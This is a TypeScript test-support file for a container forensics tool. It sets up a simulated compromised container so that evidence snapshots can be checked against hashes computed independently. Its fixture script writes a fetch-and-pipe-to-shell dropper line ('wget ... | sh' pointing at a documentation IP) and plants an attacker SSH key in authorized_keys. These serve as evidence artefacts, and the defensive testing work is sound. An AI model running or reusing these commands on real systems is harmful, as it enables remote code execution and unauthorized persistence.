// Shared scene for the snapshot tests: a suspect with changes, a volume and a bind mount; independent checks via the CLI.
//
// The checks deliberately avoid HoldCell's own code: hashes come from `sha256sum` or from `docker export` piped
// through node's crypto, listings from `tar -t` (listing only, never extraction), labels from `docker image inspect`.
import { execFile, spawn } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Acquisition } from '../../src/capture/node/acquisition.js';
import { DockerEngine } from '../../src/capture/node/docker-engine.js';
import { EngineRegistry } from '../../src/capture/node/engine-registry.js';
import { CustodyRecord, Manifest } from '../../src/forensics/common/case-model.js';
import { CaseStore } from '../../src/forensics/node/case-store.js';
import { createTestContainer, docker, TEST_LABEL } from '../support/docker-cli.js';

export const OPERATOR = 'responder-under-test';

export function makeAcquisition(options: { socketPath: string; casesRoot: string; idleTimeoutMs: number }): {
  acquisition: Acquisition;
  store: CaseStore;
} {
  const store = new CaseStore({ casesRoot: options.casesRoot, operator: OPERATOR, toolVersion: 'holdcell test' });
  const engines = new EngineRegistry([new DockerEngine('default', { kind: 'unix', socketPath: options.socketPath })]);
  const acquisition = new Acquisition({ engines, openCase: store.openOrCreate, idleTimeoutMs: options.idleTimeoutMs });
  return { acquisition, store };
}

export function run(command: string, args: string[]): Promise<string> {
  return new Promise((resolve, reject) => {
    execFile(
      command,
      args,
      { encoding: 'utf8', maxBuffer: 64 * 1024 * 1024, timeout: 60_000 },
      (error, stdout, stderr) => {
        if (error) reject(new Error(`${command} ${args.join(' ')} failed: ${stderr.trim() || error.message}`));
        else resolve(stdout);
      },
    );
  });
}

/** `sha256sum` of a file: the hash a second investigator would compute, not ours. */
export async function sha256sum(file: string): Promise<string> {
  return (await run('sha256sum', [file])).split(/\s+/)[0] ?? '';
}

/** `tar -t` of a case file: names only, nothing extracted. */
export async function tarList(file: string): Promise<string[]> {
  return (await run('tar', ['-tf', file])).split('\n').filter((line) => line !== '');
}

/** Runs `docker <args>` and hashes its stdout with node's crypto: the engine's stream, without HoldCell in between. */
export function dockerStreamHash(
  args: string[],
): Promise<{ sha256: string; bytes: number; prefixSha256: (n: number) => string }> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.env['DOCKER_CLI'] ?? 'docker', args, { stdio: ['ignore', 'pipe', 'pipe'] });
    const hash = createHash('sha256');
    const chunks: Buffer[] = [];
    let bytes = 0;
    let stderr = '';
    child.stdout.on('data', (chunk: Buffer) => {
      hash.update(chunk);
      chunks.push(chunk);
      bytes += chunk.length;
    });
    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString('utf8')));
    child.on('error', reject);
    child.on('close', (code) => {
      if (code !== 0) {
        reject(new Error(`docker ${args.join(' ')} exited ${String(code)}: ${stderr.trim()}`));
        return;
      }
      const all = Buffer.concat(chunks);
      resolve({
        sha256: hash.digest('hex'),
        bytes,
        prefixSha256: (n) => createHash('sha256').update(all.subarray(0, n)).digest('hex'),
      });
    });
  });
}

export async function readManifest(caseDir: string): Promise<Manifest> {
  return Manifest.parse(JSON.parse(await readFile(join(caseDir, 'manifest.json'), 'utf8')));
}

export async function readCustody(caseDir: string): Promise<CustodyRecord[]> {
  const text = await readFile(join(caseDir, 'custody.jsonl'), 'utf8');
  return text
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => CustodyRecord.parse(JSON.parse(line)));
}

export interface Suspect {
  id: string;
  volume: string;
  bindDir: string;
  /** What the bind mount holds, by name. */
  bindFiles: Record<string, string>;
}

/**
 * A busybox container that, when run, drops a script, plants an SSH key and writes loot into its volume; it has
 * a named volume at /data and a read-only bind mount of a temp dir at /evidence-bind.
 */
export async function createSuspect(
  name: string,
  options: {
    keepRunning: boolean;
    /**
     * Incompressible bytes added to the filesystem, for tests that must act while the export is still flowing: the
     * acquisition reads ahead (up to 8 MiB) as fast as the engine sends, so a small export is often whole before the
     * first progress report.
     */
    bulkMiB?: number;
  },
): Promise<Suspect> {
  const volume = `hc-test-snap-vol-${randomBytes(4).toString('hex')}`;
  await docker(['volume', 'create', '--label', TEST_LABEL, volume]);
  const bindDir = await mkdtemp(join(tmpdir(), 'hc-snap-bind-'));
  const bindFiles = { 'known.txt': 'known bind content\n', 'notes/second.txt': 'second file\n' };
  await mkdir(join(bindDir, 'notes'));
  for (const [file, content] of Object.entries(bindFiles)) await writeFile(join(bindDir, file), content);
  const script = [
    'echo "wget http://203.0.113.9/x | sh" > /tmp/dropper.sh',
    'mkdir -p /root/.ssh',
    'echo "ssh-ed25519 AAAAC3 attacker" > /root/.ssh/authorized_keys',
    'echo loot > /data/loot.txt',
    ...(options.bulkMiB === undefined ? [] : [`head -c ${options.bulkMiB * 1024 * 1024} /dev/urandom > /bulk.bin`]),
    'touch /tmp/ready',
    options.keepRunning ? 'exec sleep 600' : 'true',
  ].join('; ');
  const id = await createTestContainer({
    name,
    args: ['--network', 'none', '-v', `${volume}:/data`, '-v', `${bindDir}:/evidence-bind:ro`],
    command: ['sh', '-c', script],
  });
  await docker(['start', id]);
  if (options.keepRunning) {
    for (let attempt = 0; attempt < 100; attempt += 1) {
      const state = await docker(['exec', id, 'sh', '-c', 'test -f /tmp/ready && echo ready || true']);
      if (state.trim() === 'ready') break;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
  } else {
    await docker(['wait', id]);
  }
  return { id, volume, bindDir, bindFiles };
}

export async function removeSuspect(suspect: Suspect | undefined): Promise<void> {
  if (suspect === undefined) return;
  await docker(['rm', '-f', suspect.id]).catch(() => undefined);
  await docker(['volume', 'rm', '-f', suspect.volume]).catch(() => undefined);
  await rm(suspect.bindDir, { recursive: true, force: true });
}

/** Evidence images committed from a test container, found by the label snapshot puts on them. */
export async function evidenceImagesOf(containerId: string): Promise<string[]> {
  const out = await docker([
    'images',
    '-q',
    '--no-trunc',
    '--filter',
    `label=org.holdcell.source-container=${containerId}`,
  ]);
  return [...new Set(out.split('\n').filter((line) => line.trim() !== ''))];
}

export async function removeEvidenceImages(containerId: string | undefined): Promise<void> {
  if (containerId === undefined) return;
  const images = await evidenceImagesOf(containerId);
  if (images.length > 0) await docker(['rmi', '-f', ...images]).catch(() => undefined);
}

/** Seeded, deterministic pseudo-random numbers (mulberry32): the same offsets every run. */
export function seededRandom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** Fails the surrounding test if any promise rejection goes unhandled while it runs. */
export function watchUnhandledRejections(): { rejections: unknown[]; stop: () => void } {
  const rejections: unknown[] = [];
  const listener = (reason: unknown): void => {
    rejections.push(reason);
  };
  process.on('unhandledRejection', listener);
  return { rejections, stop: () => process.off('unhandledRejection', listener) };
}
